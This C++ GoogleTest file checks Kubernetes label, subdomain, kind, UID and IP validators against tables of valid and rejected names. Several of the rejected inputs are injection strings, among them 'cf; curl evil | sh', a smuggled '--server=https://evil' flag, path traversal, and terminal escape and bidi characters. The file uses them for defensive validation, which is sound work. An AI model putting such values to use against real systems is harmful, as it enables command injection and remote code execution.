#include "lib/cluster/names.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace cfee {

namespace {

struct Row {
    std::string name;
    bool is_label;
    bool is_subdomain;
};

TEST(Names, AreWhatKubernetesTakesForOne) {
    const std::vector<Row> table{
        {"cf", true, true},
        {"diego-api-0", true, true},
        {"0", true, true},
        {std::string(63, 'a'), true, true},
        {std::string(64, 'a'), false, true},
        {std::string(253, 'a'), false, true},
        {std::string(254, 'a'), false, false},
        {"ip-10-0-0-7.ec2.internal", false, true},
        {"a.b", false, true},
        {"", false, false},
        {"-a", false, false},
        {"a-", false, false},
        {".a", false, false},
        {"a.", false, false},
        {"a..b", false, false},
        {"a.-b", false, false},
        {"Api", false, false},
        {"a_b", false, false},
        {"a b", false, false},
        {"../../x", false, false},
        {"cf; curl evil | sh", false, false},
        {"--server=https://evil", false, false},
        {"a\033[2J", false, false},
        {"a\u202e", false, false},
        {std::string("a\0", 2), false, false},
    };
    for (const Row& row : table) {
        EXPECT_EQ(is_label(row.name), row.is_label) << row.name;
        EXPECT_EQ(is_subdomain(row.name), row.is_subdomain) << row.name;
    }
}

TEST(Names, KindsUidsAndAddresses) {
    EXPECT_TRUE(is_kind("StatefulSet"));
    for (const char* wrong : {"", "Stateful Set", "a/b", "\033"}) EXPECT_FALSE(is_kind(wrong)) << wrong;
    EXPECT_TRUE(is_uid("367e3275-7c0e-4c8a-9c33-b3299b97f73e"));
    for (const char* wrong : {"", "'; curl evil", "a\n", "a\"}"}) EXPECT_FALSE(is_uid(wrong)) << wrong;
    EXPECT_FALSE(is_uid(std::string(129, 'a')));
    for (const char* right : {"10.0.0.1", "fd00::1", "::ffff:10.0.0.1"}) EXPECT_TRUE(is_ip(right)) << right;
    for (const char* wrong : {"", "host", "1.2.3.4;"}) EXPECT_FALSE(is_ip(wrong)) << wrong;
}

}  // namespace

}  // namespace cfee
